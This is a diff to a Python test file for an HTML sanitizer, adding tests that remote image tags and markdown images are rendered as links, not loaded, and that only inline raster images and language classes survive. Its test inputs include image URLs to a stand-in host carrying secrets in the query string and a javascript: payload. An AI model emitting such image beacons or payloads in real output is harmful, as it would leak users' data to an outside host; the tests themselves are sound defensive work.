@@ -47,11 +47,55 @@ def test_sanitizer_removes_every_script_vector(attack):
 
 
 def test_sanitizer_keeps_formatting():
-    html = '<h2>T</h2><p><b>b</b> <a href="https://x.org/a">link</a></p><table><tr><td>1</td></tr></table><img src="https://x.org/i.png" alt="i">'
+    html = '<h2>T</h2><p><b>b</b> <a href="https://x.org/a">link</a></p><table><tr><td>1</td></tr></table><img src="data:image/png;base64,iVBO" alt="i">'
     clean = sanitize_html(html)
     assert "<h2>T</h2>" in clean and "<b>b</b>" in clean and "<td>1</td>" in clean
     assert 'href="https://x.org/a"' in clean and 'rel="noopener noreferrer nofollow"' in clean
-    assert 'src="https://x.org/i.png"' in clean
+    assert '<img src="data:image/png;base64,iVBO" alt="i">' in clean  # inline raster: kept
+
+
+@pytest.mark.parametrize(
+    "image",
+    [
+        '<img src="//evil.example/t.png?k=secret" alt="chart">',
+        '<img src="https://evil.example/t.png?k=secret" alt="chart">',
+        '<IMG SRC=" https://evil.example/t.png?k=secret" alt="chart"/>',
+    ],
+)
+def test_a_remote_image_becomes_a_link_and_never_loads(image):
+    clean = sanitize_html(f"<p>{image}</p>")
+    assert "<img" not in clean.lower() and "src=" not in clean
+    assert "evil.example/t.png?k=secret" in clean and ">image: chart</a>" in clean
+    assert 'rel="noopener noreferrer nofollow"' in clean
+
+
+def test_a_markdown_image_becomes_a_link_and_never_loads():
+    html = markdown_html("Look: ![plot](https://evil.example/p.png?d=hunter2)")
+    assert "<img" not in html
+    assert '<a href="https://evil.example/p.png?d=hunter2"' in html and "image: plot" in html
+
+
+@pytest.mark.parametrize(
+    "src",
+    [
+        "x",  # relative: still a request the reader did not ask for
+        "data:image/svg+xml;base64,PHN2Zz4=",  # not a raster type
+        "data:image/pngish;base64,AAAA",
+        "javascript:alert(1)",
+    ],
+)
+def test_only_inline_raster_images_are_kept_as_images(src):
+    clean = sanitize_html(f'<img src="{src}" alt="a">')
+    assert clean == "image: a"  # not on the web: the description only
+    assert sanitize_html(f'<img src="{src}">') == "image"
+
+
+def test_only_language_classes_are_kept():
+    spoof = '<div class="jp-Dialog lm-Widget jp-mod-accept">OK</div>'
+    assert sanitize_html(spoof) == "<div>OK</div>"
+    mixed = '<code class="language-python jp-InputArea">x</code>'
+    assert sanitize_html(mixed) == '<code class="language-python">x</code>'
+    assert 'class="language-python"' in markdown_html("```python\nx = 1\n```")
 
 
 def test_sanitizer_closes_what_it_opens_and_escapes_text():
